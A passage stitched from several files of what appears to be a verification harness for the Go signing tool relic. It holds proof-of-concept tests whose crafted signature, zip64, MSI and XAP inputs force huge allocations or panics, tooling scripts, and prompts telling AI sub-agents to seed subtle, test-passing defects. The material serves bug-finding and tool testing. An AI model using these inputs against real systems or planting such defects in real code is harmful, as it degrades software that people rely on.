	raw, err := psd.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	return marshalSuperBlob(csEmbeddedSignature, []superItem{
		{magic: csCodeDirectory, itype: cdCodeDirectorySlot, data: cd},
		newSuperItem(csBlobWrapper, raw),
	})
}

func b7Alloc(t *testing.T, inputLen int, fn func() error) {
	t.Helper()
	const limit = 256 << 20
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	var err error
	func() {
		defer func() {
			if r := recover(); r != nil {
				err = fmt.Errorf("PANIC: %v", r)
			}
		}()
		err = fn()
	}()
	runtime.ReadMemStats(&after)
	debug.FreeOSMemory()
	delta := after.TotalAlloc - before.TotalAlloc
	t.Logf("signature blob %d bytes + %d bytes of code, result err=%v, TotalAlloc delta=%d bytes (%d MiB)",
		inputLen, len(b7Code), err, delta, delta>>20)
	if delta > limit {
		t.Fatalf("VerifyPages allocated %d MiB for a %d-byte blob and %d bytes of code (result: %v)",
			delta>>20, inputLen, len(b7Code), err)
	}
}

// Control: PageSizeLog2 = 12 verifies cleanly end to end with small memory.
func TestPocB7_Control(t *testing.T) {
	blob := b7SelfSigned(t, 12)
	b7Alloc(t, len(blob), func() error {
		v, err := Verify(blob, VerifyParams{})
		if err != nil {
			return err
		}
		return v.Blob.VerifyPages(bytes.NewReader(b7Code))
	})
}

// PageSizeLog2 = 29 -> make([]byte, 512 MiB), through the exported API only:
// csblob.Verify (accepts the self-signed blob) followed by VerifyPages, the
// same sequence as machos.Verify (lib/fruit/machos/verify.go:28-37) and
// dmg verify (lib/fruit/dmg/verify.go:19-25). VerifyPages even returns nil.
func TestPocB7_PageSizeAlloc_Exported(t *testing.T) {
	blob := b7SelfSigned(t, 29)
	v, err := Verify(blob, VerifyParams{})
	if err != nil {
		t.Fatalf("csblob.Verify rejected the crafted blob: %v", err)
	}
	b7Alloc(t, len(blob), func() error {
		return v.Blob.VerifyPages(bytes.NewReader(b7Code))
	})
}

// Same without the CMS part: parseSignature (unexported) + VerifyPages on a
// 140-byte blob.
func TestPocB7_PageSizeAlloc_Parse(t *testing.T) {
	blob := b7Unsigned(29)
	b7Alloc(t, len(blob), func() error {
		sig, err := parseSignature(blob)
		if err != nil {
			return err
		}
		return sig.VerifyPages(bytes.NewReader(b7Code))
	})
}

// PageSizeLog2 = 63 -> int64(1<<63) is negative -> makeslice panics.
// (Any value in 48..63 panics the same way; 64..255 yield pageSize 0; values
// 31..47 would ask the OS for 2 GiB .. 128 TiB and are deliberately not tried.)
func TestPocB7_PageSizePanic(t *testing.T) {
	blob := b7Unsigned(63)
	sig, err := parseSignature(blob)
	if err != nil {
		t.Fatalf("parseSignature: %v", err)
	}
	defer func() {
		if r := recover(); r != nil {
			t.Fatalf("VerifyPages panicked on a %d-byte blob: %v", len(blob), r)
		}
	}()
	err = sig.VerifyPages(bytes.NewReader(b7Code))
	t.Logf("VerifyPages returned err=%v (no panic)", err)
}
