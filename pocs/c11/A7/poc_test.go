package zipslicer_test

// PoC A7: zipslicer.Read does make([]byte, size-loc) where loc is the central
// directory offset taken from the (zip64) end-of-central-directory record.
// loc is never compared with size, and the uint64 -> int64 conversion of the
// zip64 value can make it negative.
//
// Copy into lib/zipslicer/ and run:
//   go test -vet=off -count=1 -timeout 60s -run TestPocA7 ./lib/zipslicer/

import (
	"bytes"
	"encoding/binary"
	"runtime"
	"runtime/debug"
	"testing"

	"github.com/sassoftware/relic/v8/lib/zipslicer"
)

// classic end-of-central-directory record, 22 bytes
func pocA7End(count uint16, cdSize, cdOffset uint32) []byte {
	var b bytes.Buffer
	_ = binary.Write(&b, binary.LittleEndian, uint32(0x06054b50))
	_ = binary.Write(&b, binary.LittleEndian, uint16(0)) // disk
	_ = binary.Write(&b, binary.LittleEndian, uint16(0)) // disk with CD
	_ = binary.Write(&b, binary.LittleEndian, count)
	_ = binary.Write(&b, binary.LittleEndian, count)
	_ = binary.Write(&b, binary.LittleEndian, cdSize)
	_ = binary.Write(&b, binary.LittleEndian, cdOffset)
	_ = binary.Write(&b, binary.LittleEndian, uint16(0)) // comment length
	return b.Bytes()
}

// zip64 end record (56 bytes) at offset 0 + zip64 locator (20 bytes) + classic
// end record with CDOffset = 0xFFFFFFFF (22 bytes) = 98 bytes
func pocA7Zip64(cdOffset uint64) []byte {
	var b bytes.Buffer
	_ = binary.Write(&b, binary.LittleEndian, uint32(0x06064b50))
	_ = binary.Write(&b, binary.LittleEndian, uint64(44)) // record size
	_ = binary.Write(&b, binary.LittleEndian, uint16(45))
	_ = binary.Write(&b, binary.LittleEndian, uint16(45))
	_ = binary.Write(&b, binary.LittleEndian, uint32(0))
	_ = binary.Write(&b, binary.LittleEndian, uint32(0))
	_ = binary.Write(&b, binary.LittleEndian, uint64(0)) // disk CD count
	_ = binary.Write(&b, binary.LittleEndian, uint64(0)) // total CD count
	_ = binary.Write(&b, binary.LittleEndian, uint64(0)) // CD size
	_ = binary.Write(&b, binary.LittleEndian, cdOffset)
	// locator
	_ = binary.Write(&b, binary.LittleEndian, uint32(0x07064b50))
	_ = binary.Write(&b, binary.LittleEndian, uint32(0))
	_ = binary.Write(&b, binary.LittleEndian, uint64(0)) // offset of the zip64 end record
	_ = binary.Write(&b, binary.LittleEndian, uint32(1))
	b.Write(pocA7End(0, 0, 0xFFFFFFFF))
	return b.Bytes()
}

func pocA7Read(t *testing.T, blob []byte) (delta uint64, err error, panicked interface{}) {
	defer debug.FreeOSMemory()
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	func() {
		defer func() { panicked = recover() }()
		_, err = zipslicer.Read(bytes.NewReader(blob), int64(len(blob)))
	}()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc, err, panicked
}

// 42-byte input: 20 bytes of padding (where the zip64 locator would be) and a
// classic end record whose CDOffset (1000) lies beyond the end of the file:
// size-loc is negative.
func TestPocA7OffsetBeyondEOF(t *testing.T) {
	blob := append(make([]byte, 20), pocA7End(0, 0, 1000)...)
	_, err, p := pocA7Read(t, blob)
	if p != nil {
		t.Fatalf("zipslicer.Read panicked on a %d-byte input: %v", len(blob), p)
	}
	t.Logf("no panic, err=%v", err)
}

// 98-byte zip64 input whose 64-bit CDOffset has the top bit set: loc becomes a
// large negative int64 and size-loc a huge positive length.
func TestPocA7Zip64Negative(t *testing.T) {
	blob := pocA7Zip64(0x8000000000000100)
	_, err, p := pocA7Read(t, blob)
	if p != nil {
		t.Fatalf("zipslicer.Read panicked on a %d-byte input: %v", len(blob), p)
	}
	t.Logf("no panic, err=%v", err)
}

// 98-byte zip64 input whose 64-bit CDOffset is -(512 MiB) as int64: size-loc
// is 512 MiB + 98 and the allocation succeeds before ReadAt rejects the offset.
func TestPocA7Zip64HugeAlloc(t *testing.T) {
	neg := int64(-(512 << 20))
	blob := pocA7Zip64(uint64(neg))
	delta, err, p := pocA7Read(t, blob)
	t.Logf("input %d bytes, TotalAlloc delta %d MiB, err=%v, panic=%v", len(blob), delta>>20, err, p)
	if delta > 256<<20 {
		t.Fatalf("zipslicer.Read allocated %d MiB for a %d-byte input", delta>>20, len(blob))
	}
}
