package authenticode

import (
	"bytes"
	"crypto"
	"os"
	"testing"
	"unicode/utf16"

	"github.com/sassoftware/relic/v8/lib/comdoc"
)

func TestPocNameLength(t *testing.T) {
	for _, nl := range []byte{0, 200} {
		blob, err := os.ReadFile("../../functest/packages/dummy.msi")
		if err != nil {
			t.Fatal(err)
		}
		var pat []byte
		for _, r := range utf16.Encode([]rune("Root Entry")) {
			pat = append(pat, byte(r), byte(r>>8))
		}
		root := bytes.Index(blob, pat)
		for i := 1; i < 4; i++ {
			ent := blob[root+128*i : root+128*(i+1)]
			if ent[66] == byte(comdoc.DirStream) {
				ent[64], ent[65] = nl, 0
				break
			}
		}
		tmp := t.TempDir() + "/n.msi"
		os.WriteFile(tmp, blob, 0644)
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Errorf("NameLength=%d PANIC: %v", nl, r)
				}
			}()
			cdf, err := comdoc.ReadPath(tmp)
			if err != nil {
				t.Logf("NameLength=%d rejected: %v", nl, err)
				return
			}
			defer cdf.Close()
			_, _, err = DigestMSI(cdf, crypto.SHA256, true)
			t.Logf("NameLength=%d DigestMSI err=%v", nl, err)
		}()
	}
}
