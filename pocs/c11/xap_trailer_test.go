package signxap

import (
	"archive/tar"
	"bytes"
	"crypto"
	"encoding/binary"
	"testing"

	"github.com/sassoftware/relic/v8/lib/zipslicer"
)

func xapTar(cd, body []byte) []byte {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	tw.WriteHeader(&tar.Header{Name: zipslicer.TarMemberCD, Size: int64(len(cd)), Mode: 0644})
	tw.Write(cd)
	tw.WriteHeader(&tar.Header{Name: zipslicer.TarMemberZip, Size: int64(len(body) + len(cd)), Mode: 0644})
	tw.Write(body)
	tw.Write(cd)
	tw.Close()
	return buf.Bytes()
}

func TestPocXapTrailer(t *testing.T) {
	short := []byte{1, 2, 3}
	big := make([]byte, 10)
	binary.LittleEndian.PutUint32(big[0:], trailerMagic)
	binary.LittleEndian.PutUint16(big[6:], 0xffff)
	// lay the trailer out the way the struct is encoded
	var tr xapTrailer
	tr.Magic = trailerMagic
	tr.TrailerSize = 0xfff0
	var enc bytes.Buffer
	binary.Write(&enc, binary.LittleEndian, tr)
	for name, cd := range map[string][]byte{"3-byte directory": short, "trailer larger than directory": enc.Bytes()} {
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Errorf("%s: PANIC: %v", name, r)
				}
			}()
			_, err := DigestXapTar(bytes.NewReader(xapTar(cd, []byte("body"))), crypto.SHA256, false)
			t.Logf("%s: err=%v", name, err)
		}()
	}
}
