package comdoc

import (
	"encoding/binary"
	"os"
	"testing"
)

// The sector table covers fewer sectors than the file has; the directory chain starts at a
// sector beyond the table.
func TestPocSectorBeyondTable(t *testing.T) {
	blob, err := os.ReadFile("../../functest/packages/dummy.msi")
	if err != nil {
		t.Fatal(err)
	}
	sectorSize := 1 << binary.LittleEndian.Uint16(blob[30:])
	nsat := int(binary.LittleEndian.Uint32(blob[44:]))
	covered := nsat * sectorSize / 4
	// grow the file so that sector covered+10 exists
	want := 512 + (covered+12)*sectorSize
	for len(blob) < want {
		blob = append(blob, 0)
	}
	binary.LittleEndian.PutUint32(blob[48:], uint32(covered+10)) // DirNextSector
	tmp := t.TempDir() + "/x.msi"
	os.WriteFile(tmp, blob, 0644)
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("PANIC: %v", r)
		}
	}()
	cdf, err := ReadPath(tmp)
	t.Logf("err=%v", err)
	if err == nil {
		cdf.Close()
	}
}
