#!/bin/bash
# PoC for the C08 fixes: every fixture format is signed three times in a row; each round must
# verify. Before d2937ab the second VSIX round produced an unreadable archive ("unknown
# filetype"); before the XAP transform fix the second XAP round failed with "zip central
# directory not found". Needs /tmp/e2e (tools/e2e/gen.go, relic.yml) and a relic binary.
bin=${1:-/tmp/e2e/relic_new}
cd /tmp/e2e || exit 2
rc=0
for f in VSIXProject1.vsix dummy.xap hello.jar dummy.apk dummy.msi dummy.cab hello.ps1 ClassLibrary1.dll dummy.pkg dummy.dmg App1_1.0.3.0_x64.appx WindowsFormsApplication1.exe.manifest; do
  cp /repo/functest/packages/$f rs0_$f
  for i in 1 2 3; do
    $bin -c relic.yml sign -k k -f rs$((i-1))_$f -o rs${i}_$f >/dev/null 2>&1 || { echo "$f round $i: SIGN FAILED"; rc=1; break; }
    v=$($bin -c relic.yml verify --cert cert.pem rs${i}_$f 2>&1 | head -1)
    case "$v" in *": OK"*) ;; *) echo "$f round $i: $v"; rc=1;; esac
  done
  rm -f rs?_$f
done
[ $rc = 0 ] && echo "all formats: 3 signing rounds verify"
exit $rc
