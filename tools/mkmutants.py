#!/usr/bin/env python3
"""Builds /verif/mutants/<prop>/<id>.patch and /verif/mutants/index.json from
/verif/mutants/specs.py.  Each spec is a one-purpose edit of /repo's CURRENT tree given as
(file, old, new) string replacements; the edited copy must still compile (`go build ./...`).
Usage: mkmutants.py [id-substring ...]   (no args: rebuild everything)"""
import difflib, json, os, shutil, subprocess, sys, tempfile

HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
REPO = "/repo"
sys.path.insert(0, os.path.join(HERE, "mutants"))
from specs import SPECS  # noqa

ENV = dict(os.environ, GOFLAGS="-mod=readonly", GOPROXY="off", GOSUMDB="off", GOTOOLCHAIN="local")
ENV.pop("GOWORK", None)

def build(spec, scratch):
    tree = os.path.join(scratch, "repo")
    subprocess.check_call(["rsync", "-a", "--exclude", ".git", REPO + "/", tree + "/"])
    diffs = []
    if "revert" in spec:
        # the mutant is the exact reverse of a fix: commit of /repo (re-introduces the original defect)
        patch = subprocess.run(["git", "-C", REPO, "diff", spec["revert"], spec["revert"] + "^"], capture_output=True, text=True, check=True).stdout
        r = subprocess.run(["patch", "-p1", "-s", "-f", "--no-backup-if-mismatch"], cwd=tree, input=patch, capture_output=True, text=True)
        if r.returncode != 0:
            raise SystemExit("%s: reverse of %s does not apply: %s" % (spec["id"], spec["revert"], r.stdout + r.stderr))
        r = subprocess.run(["go", "build", "./..."], cwd=tree, env=ENV, capture_output=True, text=True)
        if r.returncode != 0:
            raise SystemExit("%s does not compile:\n%s" % (spec["id"], r.stdout + r.stderr))
        return patch
    for (f, old, new) in spec["edits"]:
        path = os.path.join(tree, f)
        src = open(path).read()
        if src.count(old) != 1:
            raise SystemExit("%s: pattern occurs %d times in %s:\n%s" % (spec["id"], src.count(old), f, old))
        dst = src.replace(old, new)
        open(path, "w").write(dst)
        diffs.append("".join(difflib.unified_diff(src.splitlines(True), dst.splitlines(True), "a/" + f, "b/" + f)))
    r = subprocess.run(["go", "build", "./..."], cwd=tree, env=ENV, capture_output=True, text=True)
    if r.returncode != 0:
        raise SystemExit("%s does not compile:\n%s" % (spec["id"], r.stdout + r.stderr))
    r = subprocess.run(["go", "vet", "./" + os.path.dirname(spec["edits"][0][0]) + "/..."], cwd=tree, env=ENV, capture_output=True, text=True)
    if r.returncode != 0:
        print("note: %s: go vet complains (kept): %s" % (spec["id"], (r.stdout + r.stderr).strip()[:300]))
    return "".join(diffs)

def main():
    want = sys.argv[1:]
    index = []
    ids = set()
    for spec in SPECS:
        assert spec["id"] not in ids, "duplicate id " + spec["id"]
        ids.add(spec["id"])
        rel = os.path.join(spec["property"], spec["id"] + ".patch")
        out = os.path.join(HERE, "mutants", rel)
        index.append({"id": spec["id"], "property": spec["property"], "kind": spec["kind"],
                      "expect_rules": spec.get("expect", []), "note": spec.get("note", ""), "patch": rel})
        if want and not any(w in spec["id"] for w in want):
            if os.path.exists(out):
                continue
        if not want and os.path.exists(out) and os.environ.get("FORCE") != "1":
            continue
        scratch = tempfile.mkdtemp(prefix="mkmutant-")
        try:
            patch = build(spec, scratch)
        finally:
            shutil.rmtree(scratch, ignore_errors=True)
        os.makedirs(os.path.dirname(out), exist_ok=True)
        open(out, "w").write(patch)
        print("built", rel)
    json.dump(index, open(os.path.join(HERE, "mutants", "index.json"), "w"), indent=1)
    print(len(index), "specs indexed")

main()
