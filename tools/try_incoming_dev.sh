#!/bin/bash
# usage: try_incoming_dev.sh <Cxx> <round> [other properties...] — like try_incoming.sh, with the development binary
p=$1; r=$2; shift; shift; l=$(echo $p | tr A-Z a-z)
mkdir -p /verif/seeded/_incoming
[ -d /tmp/wt-$l-$r/out ] && { rm -rf /verif/seeded/_incoming/$p$r; cp -r /tmp/wt-$l-$r/out /verif/seeded/_incoming/$p$r; }
for k in 1 2 3; do
  echo "== $p$r/$k"
  /verif/tools/try_dev.sh /verif/seeded/_incoming/$p$r/$k/patch.diff $p "$@" 2>&1 | cut -c1-${COLS:-280}
done
