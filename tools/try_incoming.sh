#!/bin/bash
# usage: try_incoming.sh <Cxx> <round>  — copies <wt>/out of /tmp/wt-cxx-<round> to seeded/_incoming/<Cxx><round>
# and runs the property's quick check against each of the three changes on a scratch copy.
p=$1; r=$2; l=$(echo $p | tr A-Z a-z)
mkdir -p /verif/seeded/_incoming
rm -rf /verif/seeded/_incoming/$p$r
cp -r /tmp/wt-$l-$r/out /verif/seeded/_incoming/$p$r
for k in 1 2 3; do
  echo "== $p$r/$k"
  /verif/tools/try_seed_scratch.sh /verif/seeded/_incoming/$p$r/$k/patch.diff $p 2>&1 | cut -c1-${COLS:-280}
done
