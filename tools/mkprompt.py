#!/usr/bin/env python3
"""mkprompt.py <property id> <worktree> — writes /tmp/prompt-<id>.txt: the brief for an independent
sub-agent that seeds defects (it gets the property text and a scratch worktree, nothing from /verif)."""
import json, sys
pid, wt = sys.argv[1:3]
round2 = len(sys.argv) > 3 and sys.argv[3] in ("r2", "r3", "r4", "r5")
round3 = len(sys.argv) > 3 and sys.argv[3] in ("r3", "r4", "r5")
round4 = len(sys.argv) > 3 and sys.argv[3] in ("r4", "r5")
round5 = len(sys.argv) > 3 and sys.argv[3] == "r5"
p = {json.loads(l)["id"]: json.loads(l) for l in open("/verif/properties.jsonl")}[pid]
txt = '''You are helping test a verification tool by writing *seeded defects* for an open-source Go project (sassoftware/relic, a package-signing tool and server). You work ONLY inside your own scratch git worktree at {wt} (a checkout of the project). Do not read or write anything under /verif or /repo, and do not look for any verification tooling: your changes must be independent of it.

The property that must be broken:

  Title: {title}
  Statement: {statement}
  Quantified over: {quant}
  Why the existing tests cannot settle it: {why}
  Code the property is anchored in: {files}
(The description may mention defects "on this tree"; some of them have since been repaired at the HEAD you are given. Do not simply re-introduce a defect the text names; find new ways to break the property.)

Your job: produce THREE different, independent source changes to the project (at three different sites / mechanisms), each of which
  (a) breaks the property above in a realistic way — the sort of regression a well-meaning developer could introduce in a refactor, optimisation or feature tweak;
  (b) still compiles (`go build ./...`) and still passes the existing test suite (`go test -vet=off -count=1 ./...` — 47 tests, all in helper packages);
  (c) needs something specific to manifest — a particular interleaving, a crash or fault at a particular point, a multi-step sequence of operations, an unusual input or configuration, or two cooperating sites that each look fine alone — NOT something ordinary use would expose at once;
  (d) is small (a few lines to a few dozen lines), and does not touch test files.
Prefer subtle changes (a guard weakened rather than deleted, a check moved after the thing it protects, an error path that now falls through, a new code path that bypasses the mechanism, a helper whose contract quietly changes) over blunt deletions. Make the three changes different in kind from each other.

For each change k = 1,2,3 write into {wt}/out/<k>/:
  - patch.diff   : `git diff` of the change against the clean worktree HEAD (apply-able with `git apply`)
  - demo_test.go : a Go test file (state in the README which package directory it must be copied into) that FAILS with the change applied and PASSES without it. It must run offline and need no HSM/network: drive the smallest reachable unit (call the function/handler directly, with fakes where needed; generate keys/certificates in the test).
  - README.md    : what the change does, why it breaks the property, what it needs in order to manifest, and the exact commands you ran (with and without the change) and their outcomes.
Also create {wt}/out/go.mod containing `module out` so that `./...` in the project root skips the demo files. Verify all of (a)-(c) yourself by running the commands. When you are done, restore the worktree's tracked files to HEAD (`git checkout -- .` and remove any stray demo files outside out/), leaving only the out/ directory as untracked content.

Environment: no network. Every shell call must start with: export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local; unset GOWORK
Go 1.23 is installed; module deps are in the module cache. Do not `go get` anything. Do not run `git commit`. NEVER run `git clean`. Do not create large files.

Finish by replying with a short summary: for each change, one line saying which file/function it touches and what it needs to manifest.'''.format(wt=wt, title=p["title"], statement=p["statement"], quant=p["quantifier"]["text"], why=p["why_tests_cant"], files=", ".join(p["anchors"]["files"]))
if round2:
    txt = txt.replace("Your job: produce THREE", "This is a second round of testing: earlier testers mostly weakened the most obvious guard in the property's central function. Prefer less obvious sites this time: helpers and their contracts, callers, alternative or rarely taken code paths, configuration handling, error paths, sibling implementations of the same mechanism in other packages.\n\nYour job: produce THREE")
if round3:
    txt = txt.replace("This is a second round of testing:", "This is a third round of testing: two earlier rounds of testers already produced six changes for this property, covering its central function and its most visible helpers. Look for mechanisms they are unlikely to have used: an interaction between two packages, state that outlives one call, an assumption a callee makes about its caller, an alternative entry point (another command, another signer, the server versus the standalone path), a data-dependent corner of an otherwise correct routine. As before:")
if round4:
    txt = txt.replace("This is a third round of testing: two earlier rounds of testers already produced six changes", "This is a fourth round of testing: three earlier rounds of testers already produced nine changes")
    txt = txt.replace("As before:", "Also consider: a change that is correct for every input the existing fixtures contain but wrong for a legal input of another shape (another key type, digest, size class, optional field present or absent); a change in how two versions of the same data are kept consistent; a resource whose lifetime is now tied to the wrong owner. As before:")
if round5:
    txt = txt.replace("This is a fourth round of testing: three earlier rounds of testers already produced nine changes", "This is a fifth round of testing: four earlier rounds of testers already produced twelve changes")
    txt = txt.replace("Also consider:", "Kinds of change that have hardly been tried yet: unit, scale, rounding or offset arithmetic that is right for the common case; boundary values (empty, exactly one block, exactly the limit); the meaning of an option or argument of a library call; defaults applied while parsing configuration; the order of two steps that live in different functions; clean-up on an error path that is rarely taken; a second caller of a helper for whom the helper's assumption does not hold. Also consider:")
suffix = "-r5" if round5 else "-r4" if round4 else ("-r3" if round3 else ("-r2" if round2 else ""))
open("/tmp/prompt-%s%s.txt" % (pid, suffix), "w").write(txt)
print("/tmp/prompt-%s%s.txt" % (pid, suffix))
