#!/usr/bin/env python3
"""Applies every /verif/seeded/<id>/patch.diff to /repo (git apply), runs the property's quick check,
reverts (git checkout), and records which rules reported it in meta.json."""
import json, os, subprocess, sys
only = sys.argv[1:]
rows = []
for sid in sorted(os.listdir("/verif/seeded")):
    d = os.path.join("/verif/seeded", sid)
    mp = os.path.join(d, "meta.json")
    if not os.path.exists(mp): continue
    if only and not any(o in sid for o in only): continue
    meta = json.load(open(mp))
    patch = os.path.join(d, "patch.diff")
    if subprocess.run(["git", "-C", "/repo", "apply", "--check", patch]).returncode != 0:
        rows.append((sid, "patch does not apply")); continue
    subprocess.check_call(["git", "-C", "/repo", "apply", patch])
    try:
        r = subprocess.run(["/verif/bin/relicvet", "-property", meta["property"], "-tier", "quick", "-evidence", "/tmp/run_seeds_ev.json"], capture_output=True, text=True)
    finally:
        subprocess.check_call(["git", "-C", "/repo", "checkout", "--", "."])
        for f in subprocess.run(["git", "-C", "/repo", "ls-files", "--others", "--exclude-standard"], capture_output=True, text=True).stdout.split():
            os.remove(os.path.join("/repo", f))
    rules = sorted({w[5:] for l in r.stdout.splitlines() if l.startswith(("REPORT ", "UNDECIDED ")) for w in l.split() if w.startswith("rule=")})
    meta["detected"] = r.returncode == 1 and bool(rules)
    meta["detected_by"] = rules
    meta["check_run"] = "git -C /repo apply seeded/%s/patch.diff; ./bin/relicvet -property %s -tier quick; git -C /repo checkout -- ." % (sid, meta["property"])
    json.dump(meta, open(mp, "w"), indent=1)
    rows.append((sid, "DETECTED by %s" % rules if meta["detected"] else "MISSED (exit %d)" % r.returncode))
for r in rows: print("%-10s %s" % r)
