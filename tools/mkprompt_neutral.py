#!/usr/bin/env python3
"""mkprompt_neutral.py <property id> <worktree> — writes /tmp/prompt-<id>-neutral.txt: the brief for an
independent sub-agent that writes BEHAVIOUR-PRESERVING refactorings of the code a property is anchored in
(to test that the checks stay silent on code where the property still holds)."""
import json, sys
pid, wt = sys.argv[1:3]
p = {json.loads(l)["id"]: json.loads(l) for l in open("/verif/properties.jsonl")}[pid]
txt = '''You are helping test a verification tool for an open-source Go project (sassoftware/relic, a package-signing tool and server). You work ONLY inside your own scratch git worktree at {wt} (a checkout of the project). Do not read or write anything under /verif or /repo, and do not look for any verification tooling.

The tool must stay silent on code that still has the following property. Your job is to write refactorings that a maintainer could plausibly make and that KEEP the property (and all behaviour) intact.

  Title: {title}
  Statement: {statement}
  Code the property is anchored in: {files}

Produce SIX different, independent refactorings of code in (or directly called by) the anchored files. Each one must
  (a) preserve behaviour exactly for every input - same outputs, same errors in the same situations, same side effects in the same order where the order is observable; it must NOT weaken, remove, reorder-past-its-use or bypass any check, guard, lock, error test or clean-up step;
  (b) compile (`go build ./...`) and pass the existing test suite (`go test -vet=off -count=1 ./...`);
  (c) be a realistic maintenance edit of 5 to 60 changed lines that touches the logic the property depends on, not just comments or formatting. Use a different kind for each of the six, for example: extract a block into a helper function (or inline a small helper); rename local variables and reorder independent statements; turn a switch into an if/else chain or the reverse; turn nested ifs into early returns (guard clauses) or the reverse; introduce a named boolean or a local for a sub-expression; replace an index loop by a range loop or the reverse; move a declaration closer to its use; split one function into two steps; replace a literal by a named constant; use errors.Is/As style only where semantics are identical;
  (d) not touch test files.
Be strict with yourself about (a): if you are not sure a change preserves behaviour in every case (including error paths, nil cases, empty inputs, concurrency), do not use it.

For each refactoring k = 1..6 write into {wt}/out/<k>/:
  - patch.diff : `git diff` of the change against the clean worktree HEAD (apply-able with `git apply`)
  - README.md  : two or three sentences: what was changed and why behaviour is identical.
Also create {wt}/out/go.mod containing `module out`. After producing each patch, restore the worktree's tracked files to HEAD (`git checkout -- .`) so the six patches are independent; at the end only the out/ directory may remain as untracked content.

Environment: no network. Every shell call must start with: export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local; unset GOWORK
Go 1.23 is installed; module deps are in the module cache. Do not `go get` anything. Do not run `git commit`. NEVER run `git clean`. Do not create large files.

Finish by replying with one line per refactoring: file/function touched and the kind of refactoring.'''.format(wt=wt, title=p["title"], statement=p["statement"], files=", ".join(p["anchors"]["files"]))
open("/tmp/prompt-%s-neutral.txt" % pid, "w").write(txt)
print("/tmp/prompt-%s-neutral.txt" % pid)
