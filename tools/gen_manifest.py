#!/usr/bin/env python3
"""Regenerates /verif/MANIFEST.json from the table below (kept next to the checker so the
not_applicable list and the claimed checks can never drift apart)."""
import json, os, sys

HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
ALL = ["C%02d" % i for i in range(1, 21)]

# id -> (technique, level text, level note, design ref)
CLAIMED = json.load(open(os.path.join(HERE, "tools", "claims.json")))
NA = json.load(open(os.path.join(HERE, "tools", "not_applicable.json")))

# the level text is taken from the checker itself (propMeta.Explanation / NotDecided), so that it
# always names the rules that are actually registered
import glob, re
def gostr(x):
    return json.loads('"' + x.replace('\\`', '`') + '"') if x is not None else ""
META = {}
for f in glob.glob(os.path.join(HERE, "checker", "c*.go")):
    src = open(f).read()
    for m in re.finditer(r'ID:\s*"(C\d\d)",\s*Meta:\s*propMeta\{\s*Explanation:\s*"((?:[^"\\]|\\.)*)",\s*NotDecided:\s*"((?:[^"\\]|\\.)*)"', src):
        META[m.group(1)] = (gostr(m.group(2)), gostr(m.group(3)))

ENV = "GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local"
checks = []
for pid in ALL:
    if pid not in CLAIMED:
        continue
    c = CLAIMED[pid]
    checks.append({
        "property_id": pid,
        "quick_cmd": "./bin/relicvet -property %s -tier quick" % pid,
        "thorough_cmd": "./bin/relicvet -property %s -tier thorough" % pid,
        "evidence_file": "/verif/evidence/%s.json" % pid,
        "replay_cmd_template": "./bin/relicvet -replay {path}",
        "engine": "relicvet",
        "level_claimed": {"category": "other", "text": (META[pid][0] + " NOT DECIDED: " + META[pid][1]) if pid in META else c["text"], "design_ref": c["design_ref"]},
        "level_note": c["note"],
        "technique": c["technique"],
    })
na = [{"property_id": pid, "reason": NA[pid]} for pid in ALL if pid not in CLAIMED]
missing = [pid for pid in ALL if pid not in CLAIMED and pid not in NA]
if missing:
    sys.exit("no reason recorded for unclaimed properties: %s" % missing)
m = {
    "version": 1,
    "setup_cmd": "mkdir -p /verif/bin /verif/evidence /verif/out && cd /verif/checker && env -u GOWORK %s go build -o /verif/bin/relicvet ." % ENV,
    "hooks": {
        "guard": "verif",
        "enable": "none needed: the checks are static analyses of /repo's working tree; no instrumentation is compiled in",
        "baseline_off_cmd": "cd /repo && go test -vet=off -count=1 -timeout 25m ./...",
        "source_commits": [],
        "add_only": True,
    },
    "engines": [{
        "name": "relicvet",
        "path": "/verif/checker",
        "serves_properties": [c["property_id"] for c in checks],
        "kind_free_text": "repository-specific static analyser (go/packages + go/types + go/ssa + call graphs of x/tools v0.29.0): path-guard, error-propagation, integer-taint, typestate, lock-discipline, who-may-call and table-agreement rules; analyses only, never executes relic code",
    }],
    "checks": checks,
    "not_applicable": na,
    "notes": "All claims are level `other`: each check decides named structural necessary conditions of its property on every path / call site of the current source, and states in its evidence what part of the behavioural property it does not decide. See DESIGN.md.",
}
json.dump(m, open(os.path.join(HERE, "MANIFEST.json"), "w"), indent=1)
print("claimed:", [c["property_id"] for c in checks], "n/a:", [n["property_id"] for n in na])
