#!/bin/bash
# Whole-tree neutral variants: (1) every Go file gets comment lines in front of its package clause
# (all positions shift), (2) additionally every non-test Go file is renamed (mv_<name>). Both compile
# and behave as before; every quick check must stay silent on them. Scratch copy under /tmp, removed.
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local; unset GOWORK
set -u
d=$(mktemp -d /tmp/neutral_all.XXXX)
rsync -a --exclude .git /repo/ "$d/"
fail=0
variant() {
  python3 - "$d" "$1" <<'PY'
import os,re,sys
d,mode=sys.argv[1:3]
for root,ds,fs in os.walk(d):
    for f in fs:
        if not f.endswith('.go'): continue
        p=os.path.join(root,f)
        if mode=='shift':
            s=open(p).read()
            m=re.search(r'^package \w+', s, re.M)
            if m: open(p,'w').write(s[:m.start()]+"// neutral shift\n// neutral shift\n\n"+s[m.start():])
        elif mode=='rename' and not f.endswith('_test.go'):
            os.rename(p, os.path.join(root,'mv_'+f))
PY
  (cd "$d" && go build ./...) || { echo "variant $1 does not build"; fail=1; return; }
  for i in 01 02 03 04 05 06 07 08 09 10 11 12 13 14 15 16 17 18 19 20; do
    out=$(/verif/bin/relicvet -property C$i -tier quick -repo "$d" -evidence "$d/.ev.json" 2>&1); code=$?
    echo "$1 C$i exit=$code $(echo "$out" | grep SUMMARY)"
